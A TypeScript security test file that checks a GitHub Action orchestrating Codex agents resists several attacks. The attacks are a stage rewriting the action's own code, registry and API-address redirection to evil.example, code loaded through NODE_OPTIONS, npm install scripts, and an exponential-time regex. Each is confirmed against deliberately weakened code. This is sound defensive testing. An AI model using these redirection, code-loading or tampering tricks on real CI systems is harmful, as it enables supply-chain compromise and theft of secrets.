/** What a stage does to the action itself, what redirects its children, and what keeps it busy. */
import { cpSync, existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join, resolve } from 'node:path';
import { execa } from 'execa';
import { describe, expect } from 'vitest';
import { CAN_SANDBOX } from '../../support/agents.ts';
import { testAttacks } from '../../support/attack.ts';
import { CODEX_PATH } from '../../support/known-codex.ts';
import { createRunner } from '../../support/runner.ts';
import type { Running, StepResult } from '../../support/step.ts';
import { READS_MARKS } from '../../support/system.ts';

const ROOT = resolve(import.meta.dirname, '../../..');
const JOB = {
  eventName: 'workflow_dispatch',
  event: {},
  repository: 'octo/widgets',
  ref: 'refs/heads/main',
} as const;

/** The action where a job has it: in a folder of its own, which the job can write. */
function placed(folder: string, action = ROOT): string {
  for (const name of ['action.yml', 'package.json', 'dist', 'canary'])
    cpSync(join(action, name), join(folder, name), { recursive: true });
  return folder;
}

const pipelineOf = (...stages: readonly object[]) =>
  JSON.stringify({ pipelines: [{ id: 'checks', stages }] });

describe.skipIf(!READS_MARKS)('the code of the action', () => {
  interface Seen {
    readonly main: StepResult;
    readonly post: StepResult;
  }

  async function perform(action?: string): Promise<Seen> {
    const stage = { kind: 'command', id: 'write', command: 'echo "// evil" >> "$OURS/dist/cli.js"' };
    await using runner = createRunner({ ...JOB, files: { 'codex.orchestrator.json': pipelineOf(stage) } });
    const ours = placed(join(runner.home, 'action'), action);
    const step = runner.step({
      action: ours,
      env: { OURS: ours },
      with: { pipeline: 'checks', 'pass-env': 'OURS', 'upload-artifacts': 'false' },
    });
    const seen = { main: await step.run('main'), post: await step.run('post') };
    expect(readFileSync(join(ours, 'dist/cli.js'), 'utf8')).toContain('// evil');
    expect(seen.post.exitCode).toBe(0);
    return seen;
  }

  testAttacks(perform, [
    {
      name: 'A25: a stage rewrites the action, and the step passes all the same',
      weakening: [
        { file: 'main.ts', find: 'if (code !== null && ownCode(canary) !== code)', replace: 'if (false)' },
      ],
      succeeded: ({ main }) => main.exitCode === 0 || main.outputs.reason !== 'action_changed',
    },
    {
      name: 'A25: post goes on with an action that was rewritten',
      weakening: [{ file: 'post.ts', find: 'if (isOtherCode(ownCode(CANARY)))', replace: 'if (false)' }],
      succeeded: ({ post }) => post.annotations.every(({ message }) => !message.includes('action_changed')),
    },
  ]);
});

describe.runIf(CAN_SANDBOX && process.env.LONG)('an agent that may write in the repository', () => {
  async function perform(action?: string): Promise<string> {
    const agent = { kind: 'agent', id: 'work', prompt: 'Work.', sandbox: 'workspace-write' };
    const scenario = {
      id: 'trial',
      title: 'Trial',
      pipeline: 'checks',
      rehearsal: { script: 'agent-commands' },
    };
    await using runner = createRunner({
      ...JOB,
      files: { 'codex.orchestrator.json': pipelineOf(agent), 'trial.yml': JSON.stringify(scenario) },
    });
    // As by `uses: ./`.
    const ours = placed(runner.workspace, action);
    const inputs = {
      scenario: 'trial.yml',
      rehearse: 'true',
      'codex-path': CODEX_PATH,
      'upload-artifacts': 'false',
    };
    await runner.step({ action: ours, with: inputs }).run('main');
    expect(existsSync(join(runner.workspace, 'made-by-agent'))).toBe(true);
    return readFileSync(join(ours, 'dist/post.js'), 'utf8');
  }

  testAttacks(perform, [
    {
      name: 'A25: it overwrites the action that lies there',
      weakening: [
        { file: 'credentials/codex-home.ts', find: `\${JSON.stringify(bundle)} = "read"\n`, replace: '' },
      ],
      succeeded: (post) => post === 'overwritten\n',
    },
  ]);
});

describe.runIf(process.env.LONG && READS_MARKS)('what redirects traffic or loads code', () => {
  interface Seen {
    readonly passed: number | undefined;
    readonly staged: number | undefined;
    /** What npm was started with. */
    readonly npm: string;
  }

  async function perform(action?: string): Promise<Seen> {
    await using runner = createRunner({ ...JOB, files: { '.npmrc': 'registry=http://evil.example\n' } });
    const npm = join(runner.home, 'npm/npm');
    mkdirSync(join(runner.home, 'npm'));
    writeFileSync(npm, `#!/bin/sh\n{ echo "$@"; pwd; env; } > '${runner.home}/told'\n`, { mode: 0o755 });
    const call = (...words: string[]) =>
      execa(process.execPath, [join(action ?? ROOT, 'dist/cli.js'), ...words], {
        cwd: runner.home,
        env: { PATH: process.env.PATH ?? '', HOME: runner.home, OPENAI_BASE_URL: 'http://evil.example' },
        extendEnv: false,
        reject: false,
      });
    const stage = { kind: 'command', id: 'one', command: 'true' };
    writeFileSync(join(runner.home, 'codex.orchestrator.json'), pipelineOf(stage));
    const passed = await call('start', '--pass-env=OPENAI_BASE_URL');
    const loading = { ...stage, env: { NODE_OPTIONS: '--require ./evil.cjs' } };
    writeFileSync(join(runner.home, 'codex.orchestrator.json'), pipelineOf(loading));
    const staged = await call('start');
    const installing = runner.step({
      with: { rehearse: 'true', 'upload-artifacts': 'false' },
      env: {
        PATH: `${join(runner.home, 'npm')}:${process.env.PATH}`,
        npm_config_registry: 'http://evil.example',
      },
      ...(action === undefined ? {} : { action }),
    });
    await installing.run('main');
    const told = readFileSync(join(runner.home, 'told'), 'utf8');
    return {
      passed: passed.exitCode,
      staged: staged.exitCode,
      npm: told.replaceAll(runner.workspace, '<checkout>'),
    };
  }

  testAttacks(perform, [
    {
      name: 'A14: pass-env gives a child another address of the service',
      weakening: [
        {
          file: 'inputs/readers.ts',
          find: 'if (!names.some((name) => REFUSED_ENVIRONMENT.test(name)))',
          replace: 'if (true)',
        },
      ],
      succeeded: ({ passed }) => passed === 0,
    },
    {
      name: 'A15: a pipeline has a stage load code by its environment',
      weakening: [{ file: 'plan/pipeline.ts', find: '!REFUSED_ENVIRONMENT.test(name)', replace: 'true' }],
      succeeded: ({ staged }) => staged === 0,
    },
    {
      name: 'A15: the install of the Codex CLI runs scripts of packages',
      weakening: [{ file: 'credentials/install.ts', find: "'--ignore-scripts', ", replace: '' }],
      succeeded: ({ npm }) => !npm.includes('--ignore-scripts'),
    },
    {
      name: 'A15: the install takes its registry from the checkout',
      weakening: [
        {
          file: 'credentials/install.ts',
          find: 'cwd,\n    // The mark',
          replace: 'cwd: process.cwd(),\n    // The mark',
        },
      ],
      succeeded: ({ npm }) => npm.split('\n')[1] === '<checkout>',
    },
    {
      name: 'A15: the install takes its registry from the environment of the job',
      weakening: [
        {
          file: 'credentials/install.ts',
          find: 'env: { ...npmEnv, [INSTALL_MARK]: scratch }',
          replace: 'env: { ...process.env as Record<string, string>, ...npmEnv, [INSTALL_MARK]: scratch }',
        },
      ],
      succeeded: ({ npm }) => npm.includes('evil.example'),
    },
  ]);
});

/** Processor time of the step's own process; on a quick machine the product needs half a second, and on a slow one several. */
const BUSY_MS = 10_000;

describe.runIf(process.env.LONG && READS_MARKS)('a text that is made to be read for ever', () => {
  /** True where the step had to be ended. */
  async function perform(action?: string): Promise<boolean> {
    const texts = [
      `${'x'.repeat(60)}!`,
      '\\u001b]'.repeat(9000),
      'eyJ'.repeat(30_000),
      `at-${'.'.repeat(50_000)}`,
    ];
    await using runner = createRunner({
      ...JOB,
      files: {
        'codex.orchestrator.json': pipelineOf({ kind: 'command', id: 'print', command: 'cat texts' }),
        texts: `${texts.join('\n')}\n${texts[0]}\n`,
      },
      ...(action === undefined ? {} : { action }),
    });
    const main = runner.step({ with: { pipeline: 'checks', 'upload-artifacts': 'false' } }).start('main');
    // Awaited here: the job must not be taken away before its step has ended.
    return await endedWhenBusy(main);
  }

  testAttacks(perform, [
    {
      name: 'A23: an expression takes exponential time for a line of output',
      weakening: [
        {
          file: 'lib/text.ts',
          find: String.raw`.replace(/\s+/g, ' ')`,
          replace: String.raw`.replace(/(?:\s*\w+\s*)+$/, '')`,
        },
      ],
      succeeded: (ended) => ended,
    },
  ]);
});

/** Ends a process that uses more processor time than that, and tells whether it did. */
async function endedWhenBusy(running: Running): Promise<boolean> {
  let over: boolean | null = null;
  const ended = () => {
    over ??= false;
  };
  void running.ended.then(ended, ended);
  const look = () => {
    if (over === null && processorMs(running.pid) > BUSY_MS) {
      over = true;
      running.kill('SIGKILL');
    }
    return over;
  };
  // Of a loaded machine a process may get little.
  await expect.poll(look, { interval: 50, timeout: 250_000 }).not.toBeNull();
  await running.ended;
  return over === true;
}

/** What a process has used so far; 0 for one that is gone. */
function processorMs(pid: number): number {
  const stat = existsSync(`/proc/${pid}/stat`) ? readFileSync(`/proc/${pid}/stat`, 'utf8') : '';
  const [user = 0, system = 0] = stat
    .slice(stat.lastIndexOf(')') + 2)
    .split(' ')
    .slice(11, 13)
    .map(Number);
  return (user + system) * 10;
}
